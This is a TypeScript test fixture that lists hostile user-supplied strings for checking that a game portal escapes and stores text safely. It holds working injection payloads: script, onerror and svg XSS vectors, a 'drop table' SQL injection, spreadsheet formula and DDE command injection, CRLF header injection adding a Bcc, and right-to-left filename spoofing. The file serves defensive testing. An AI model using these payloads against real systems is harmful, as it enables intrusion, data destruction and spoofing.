/** What is done by a text that is taken for something else than text: a page that runs it says so. */
export const RAN = '__hostileTextRan'

const LONG = 'LongWithoutSpaces'.repeat(12)
const FLOOD = `Z${'\u0301\u0335\u0353'.repeat(40)}`

/** Texts as players and staff may have left them in a game or in the portal, by what reads them wrongly. */
export const HOSTILE_TEXTS = {
  script: `</textarea></title><script>window.${RAN}=1</script>`,
  image: `"'><img src=x onerror="window.${RAN}=1">`,
  vector: `<svg/onload=window.${RAN}=1><iframe srcdoc="x">`,
  link: `javascript:window.${RAN}=1//http://x.test`,
  rightToLeft: 'admin\u202Egnp.exe\u2066',
  invisible: 'ad\u200Bmin\u200D\u2060\uFEFF',
  flood: FLOOD,
  controls: 'a\u0001b\u0007c\u001B[31md\u007F\u0085',
  long: LONG,
  template: '{{name}} ${name} <%= name %> #{name} %s %(name)s',
  nesting: '$t(pages.journal, {"count": 1}) {{- name}}',
  formula: `=HYPERLINK("http://x.test?"&A1;"x")`,
  command: `@SUM(1+1)*cmd|'/C calc'!A0`,
  surrogate: '🐉👨‍👩‍👧𝕏',
  markdown: `# h [x](javascript:${RAN}) ![x](x) **b** @everyone <@1> \`\`\``,
  calendar: 'x\r\nEND:VEVENT\r\nBEGIN:VALARM;,\\n',
  header: 'x\r\nBcc: all@example.test\r\n\r\n<b>body</b>',
  sql: `'; drop table account; -- \\ %00 %_`,
  prototype: '__proto__',
} as const satisfies Readonly<Record<string, string>>

export const HOSTILE = Object.values(HOSTILE_TEXTS) as readonly string[]
